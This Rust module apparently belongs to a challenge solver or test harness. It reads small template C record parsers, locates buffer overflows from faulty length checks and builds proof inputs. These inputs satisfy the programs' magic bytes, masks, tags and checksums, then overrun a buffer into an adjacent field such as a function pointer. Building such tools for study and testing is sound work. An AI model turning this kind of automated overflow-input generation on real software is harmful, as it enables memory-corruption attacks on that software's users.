//! Finds the wrong bound in a small C program and builds the input that gets past it.
//!
//! It reads the source on the wire: constants, the record's layout, and the steps of the reader in
//! order. Nothing is known but the language.

use crate::family::c::{Bindings, Place, Token, find as find_tokens, number, tokens};
use std::collections::BTreeMap;

/// What was found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Found {
    /// The line of the copy, in the program as pasted, counted from its first line of C.
    pub line: usize,
    /// What copies.
    pub sink: &'static str,
    /// Why it overflows.
    pub message: String,
    /// An input that reaches it.
    pub proof: Vec<u8>,
}

/// Analyses a source. Without `able`, a program that masks, sums or demands an opening is given up.
pub fn find(text: &str, able: bool) -> Option<Found> {
    let source = program(text);
    let reader = Reader::new(source)?;
    reader.analyse(able)
}

/// The program within a message: from a comment or directive at the start of a line to the last brace.
fn program(text: &str) -> &str {
    let open = ["/*", "#"].iter().filter_map(|mark| {
        if text.starts_with(mark) {
            return Some(0);
        }
        text.find(&format!("\n{mark}")).map(|at| at + 1)
    });
    let start = open.min().unwrap_or(0);
    let end = text.rfind('}').map_or(text.len(), |at| at + 1);
    text.get(start..end).unwrap_or(text)
}

struct Reader {
    tokens: Vec<Token>,
    numbers: BTreeMap<String, u64>,
    arrays: BTreeMap<String, Vec<u8>>,
    names: Bindings,
    body: usize,
}

/// How far the sink ends behind the start of the buffer, and how large the buffer is.
struct Layout {
    distance: usize,
    capacity: usize,
}

#[derive(Clone, Copy)]
enum Sum {
    Multiply(u32),
    Rotate,
    Fletcher,
}

impl Reader {
    fn new(source: &str) -> Option<Self> {
        let tokens = tokens(source);
        let mut reader = Self {
            numbers: BTreeMap::new(),
            arrays: BTreeMap::new(),
            names: Bindings::new(),
            body: 0,
            tokens,
        };
        reader.constants();
        let head = "static int $reader ( const unsigned char * $p , size_t $n ) { size_t $at = 0 ;";
        reader.body = reader.bind(0, head)?.end;
        Some(reader)
    }

    /// Finds a pattern after `from` and keeps what its names stand for.
    fn bind(&mut self, from: usize, pattern: &str) -> Option<Place> {
        let mut names = self.names.clone();
        let place = find_tokens(&self.tokens, from, pattern, &mut names)?;
        self.names = names;
        Some(place)
    }

    /// Finds a pattern in the reader's body; what it names is not kept.
    fn peek(&self, pattern: &str) -> Option<(Place, Bindings)> {
        let mut names = self.names.clone();
        let place = find_tokens(&self.tokens, self.body, pattern, &mut names)?;
        Some((place, names))
    }

    fn has(&self, pattern: &str) -> bool {
        self.peek(pattern).is_some()
    }

    /// The number a token stands for.
    fn value(&self, text: &str) -> Option<u64> {
        number(text).or_else(|| self.numbers.get(text).copied())
    }

    /// The number that `name` stands for where a pattern matches.
    fn number_in(&self, pattern: &str, name: &str) -> Option<u64> {
        let (_, names) = self.peek(pattern)?;
        self.value(names.get(name)?)
    }

    fn constants(&mut self) {
        let mut from = 0;
        loop {
            let mut names = Bindings::new();
            let Some(place) = find_tokens(&self.tokens, from, "# define $name $value", &mut names)
            else {
                break;
            };
            if let (Some(name), Some(value)) =
                (names.get("name"), names.get("value").and_then(|v| number(v)))
            {
                self.numbers.insert(name.clone(), value);
            }
            from = place.end;
        }
        from = 0;
        loop {
            let mut names = Bindings::new();
            let pattern = "static const unsigned char $name [ $count ] = {";
            let Some(place) = find_tokens(&self.tokens, from, pattern, &mut names) else { break };
            let list = self.tokens.iter().skip(place.end).take_while(|t| t.text != "}");
            let bytes = list.filter_map(|t| u8::try_from(number(&t.text)?).ok()).collect();
            if let Some(name) = names.remove("name") {
                self.arrays.insert(name, bytes);
            }
            from = place.end;
        }
    }

    /// Walks the record's fields, with the alignment of a 64-bit machine.
    fn layout(&self, buffer: &str, sink: &str) -> Option<Layout> {
        let mut names = Bindings::new();
        let start = find_tokens(&self.tokens, 0, "struct $record {", &mut names)?.end;
        let fields = self.tokens.get(start..)?;
        let end = fields.iter().position(|t| t.text == "}")?;
        let (mut at, mut begin, mut capacity) = (0_usize, None, 0);
        for field in fields.get(..end)?.split(|t| t.text == ";") {
            let words: Vec<&str> = field.iter().map(|t| t.text.as_str()).collect();
            let (name, size, align) = match words.as_slice() {
                ["unsigned", "char", name, "[", count, "]"] => {
                    (*name, usize::try_from(self.value(count)?).ok()?, 1)
                }
                ["uint16_t", name] => (*name, 2, 2),
                ["uint32_t", name] | ["volatile", "uint32_t", name] => (*name, 4, 4),
                ["void", "(", "*", name, ..] => (*name, 8, 8),
                [] => continue,
                _ => return None,
            };
            at = at.next_multiple_of(align);
            if name == buffer {
                begin = Some(at);
                capacity = size;
            }
            at += size;
            if name == sink {
                return Some(Layout { distance: at.checked_sub(begin?)?, capacity });
            }
        }
        None
    }

    fn analyse(mut self, able: bool) -> Option<Found> {
        let magic = self.bind(self.body, "memcmp ( $p , $magic , sizeof $magic ) != 0")?;
        let (copy, sink) = self.copy()?;
        self.bind(copy.end, "r -> $sink")?;
        let masked = self.names.get("key").cloned();
        // the first mention after the copy may be the buffer, when a tag is compared
        let tag = self.peek("memcmp ( r -> $buffer , $tag , sizeof $tag ) != 0");
        let tag = tag.and_then(|(_, names)| names.get("tag").cloned());
        if tag.is_some() {
            self.names.remove("sink");
            let after = find_tokens(&self.tokens, copy.end, "!= 0 ) return", &mut Bindings::new())?;
            self.bind(after.end, "r -> $sink")?;
        }
        let sum = self.sum();
        let hello = self.hello();
        let wants_sum = self.has("!= $expected ) return 9");
        if !able && (masked.is_some() || tag.is_some() || wants_sum || hello.is_some()) {
            return None;
        }
        let layout = self.layout(self.names.get("buffer")?, self.names.get("sink")?)?;
        let (length, cause) = self.length(&layout)?;
        let mut proof = self.arrays.get(self.names.get("magic")?)?.clone();
        proof.extend(hello.unwrap_or_default());
        proof.extend(self.kind(magic.end)?);
        proof.extend(self.written(length)?);
        let array = |name: Option<String>| name.and_then(|n| self.arrays.get(&n).cloned());
        let key = array(masked).unwrap_or_default();
        let payload = payload(length, &array(tag).unwrap_or_default(), &key);
        let sum = sum.map(|(sum, start)| sum.of(start, &payload).to_be_bytes().to_vec());
        let sum = sum.unwrap_or_default();
        let first = self.has(
            "unsigned $expected = $p [ $at ] << 8 | $p [ $at + 1 ] ; $at += 2 ; if ( $n - $at < $len )",
        );
        let (a, b) = if first { (sum, payload) } else { (payload, sum) };
        proof.extend([a, b].concat());
        let message = format!(
            "{cause} A payload of {length} bytes overruns the {} bytes of `{}` and overwrites `{}`.",
            layout.capacity,
            self.names.get("buffer")?,
            self.names.get("sink")?
        );
        Some(Found { line: copy.line, sink, message, proof })
    }

    /// The copy into the record. Binds the length, the buffer and, if there is one, the key.
    fn copy(&mut self) -> Option<(Place, &'static str)> {
        let from = self.body;
        if let Some(place) = self.bind(from, "memcpy ( r -> $buffer , $p + $at , $len ) ;") {
            return Some((place, "memcpy"));
        }
        let each = "for ( size_t i = 0 ; i < $len ; i ++ ) r -> $buffer [ i ] = $p [ $at + i ]";
        if let Some(place) = self.bind(from, &format!("{each} ^ $key [ i % sizeof $key ] ;")) {
            return Some((place, "copying loop"));
        }
        self.bind(from, &format!("{each} ;")).map(|place| (place, "copying loop"))
    }

    /// The record's kind and what is skipped after it.
    fn kind(&self, from: usize) -> Option<Vec<u8>> {
        let mut names = self.names.clone();
        let pattern = "if ( $p [ $at ] != $kind ) return 0 ; $at += $need ;";
        find_tokens(&self.tokens, from, pattern, &mut names)?;
        let kind = u8::try_from(self.value(names.get("kind")?)?).ok()?;
        let need = usize::try_from(self.value(names.get("need")?)?).ok()?;
        let mut out = vec![0; need.clamp(1, 64)];
        *out.first_mut()? = kind;
        Some(out)
    }

    /// The opening record with its derived byte.
    fn hello(&self) -> Option<Vec<u8>> {
        let pattern = "unsigned $pass = $start ; for ( size_t i = 0 ; i < sizeof $magic ; i ++ ) \
                       $pass = $pass * $factor + $magic [ i ] ;";
        let (place, mut names) = self.peek(pattern)?;
        find_tokens(&self.tokens, place.end, "$p [ $at ] != $hello", &mut names)?;
        let value = |name: &str| u32::try_from(self.value(names.get(name)?)?).ok();
        let factor = value("factor")?;
        let magic = self.arrays.get(names.get("magic")?)?;
        let pass = magic
            .iter()
            .fold(value("start")?, |pass, b| pass.wrapping_mul(factor).wrapping_add(u32::from(*b)));
        Some(vec![u8::try_from(value("hello")?).ok()?, pass.to_le_bytes()[0]])
    }

    /// A length that passes the check and reaches the end of the sink, and what is wrong with the check.
    fn length(&self, layout: &Layout) -> Option<(usize, &'static str)> {
        if self.has("( uint8_t ) $len >") {
            let cause = "The length is compared after a cast to 8 bits.";
            return Some((256 + layout.capacity.min(255), cause));
        }
        if self.has("( int16_t ) $len >") {
            let cause = "The length is compared as a signed 16-bit number.";
            return Some((0x8000 + layout.capacity, cause));
        }
        let limit = self.number_in("if ( $len > $limit ) return", "limit")?;
        let fits = layout.distance <= usize::try_from(limit).ok()?;
        fits.then_some((
            layout.distance,
            "The length is compared with a bound above the buffer's size.",
        ))
    }

    /// A length as the file writes it.
    fn written(&self, length: usize) -> Option<Vec<u8>> {
        let length = u32::try_from(length).ok()?;
        let of = |pattern: &str, name: &str| {
            self.number_in(pattern, name).and_then(|n| u32::try_from(n).ok())
        };
        let biased = of("$len -= $bias ;", "bias").map(|bias| length.wrapping_add(bias));
        let masked = of("; $len ^= $mask ;", "mask").map(|mask| length ^ mask);
        let value = biased.or(masked).unwrap_or(length);
        let [_, _, high, low] = value.to_be_bytes();
        if self.has("unsigned $len = $p [ $at ] ;") {
            return (value < 256).then(|| vec![low]);
        }
        if self.has("unsigned $len = $p [ $at ] << 8 | $p [ $at + 1 ] ;") {
            return Some(vec![high, low]);
        }
        if self.has("unsigned $len = $p [ $at ] | $p [ $at + 1 ] << 8 ;") {
            return Some(vec![low, high]);
        }
        if self.has("$len = $len * 10 + ( $p [ $at ++ ] - '0' ) ;") {
            return Some(format!("{value};").into_bytes());
        }
        if self.has("$len |= ( $p [ $at ] & 0x7fu ) << $shift ;") {
            let mut rest = value;
            let mut out = Vec::new();
            while rest >= 0x80 {
                out.push(0x80 | rest.to_le_bytes()[0] & 0x7F);
                rest >>= 7;
            }
            out.push(rest.to_le_bytes()[0]);
            return Some(out);
        }
        None
    }

    fn sum(&self) -> Option<(Sum, u32)> {
        let start = |names: &Bindings| u32::try_from(self.value(names.get("start")?)?).ok();
        let each = "for ( size_t i = 0 ; i < $len ; i ++ )";
        let multiply = format!(
            "unsigned $sum = $start ; {each} $sum = ( $sum * $factor + $p [ $at + i ] ) & 0xffff ;"
        );
        if let Some((_, names)) = self.peek(&multiply) {
            let factor = u32::try_from(self.value(names.get("factor")?)?).ok()?;
            return Some((Sum::Multiply(factor), start(&names)?));
        }
        let rotate = format!(
            "unsigned $sum = $start ; {each} $sum = ( ( $sum << 1 | $sum >> 15 ) ^ $p [ $at + i ] ) & 0xffff ;"
        );
        if let Some((_, names)) = self.peek(&rotate) {
            return Some((Sum::Rotate, start(&names)?));
        }
        let fletcher = format!(
            "unsigned $sum = $start , $second = 0 ; {each} {{ $sum = ( $sum + $p [ $at + i ] ) % 255 ;"
        );
        let (_, names) = self.peek(&fletcher)?;
        Some((Sum::Fletcher, start(&names)?))
    }
}

/// A payload as the file holds it: decoded, it opens with the tag; the rest is one byte over and over,
/// chosen so that it decodes to no valid address.
fn payload(length: usize, tag: &[u8], key: &[u8]) -> Vec<u8> {
    let valid = |fill: u8| key.is_empty() || key.iter().any(|k| !matches!(fill ^ k, 0x00 | 0xFF));
    let fill = (0x41..0x7F).find(|b| valid(*b)).unwrap_or(0x41);
    let key =
        |i: usize| if key.is_empty() { 0 } else { key.get(i % key.len()).copied().unwrap_or(0) };
    let open = tag.iter().enumerate().map(|(i, b)| b ^ key(i));
    open.chain(std::iter::repeat(fill)).take(length).collect()
}

impl Sum {
    fn of(self, start: u32, bytes: &[u8]) -> u16 {
        let (mut sum, mut second) = (start, 0);
        for b in bytes.iter().map(|b| u32::from(*b)) {
            match self {
                Self::Multiply(factor) => sum = sum.wrapping_mul(factor).wrapping_add(b) & 0xFFFF,
                Self::Rotate => sum = ((sum << 1 | sum >> 15) ^ b) & 0xFFFF,
                Self::Fletcher => {
                    sum = (sum + b) % 255;
                    second = (second + sum) % 255;
                }
            }
        }
        let [_, _, high, low] = match self {
            Self::Fletcher => second << 8 | sum,
            Self::Multiply(_) | Self::Rotate => sum,
        }
        .to_be_bytes();
        u16::from_be_bytes([high, low])
    }
}

#[cfg(test)]
mod tests;
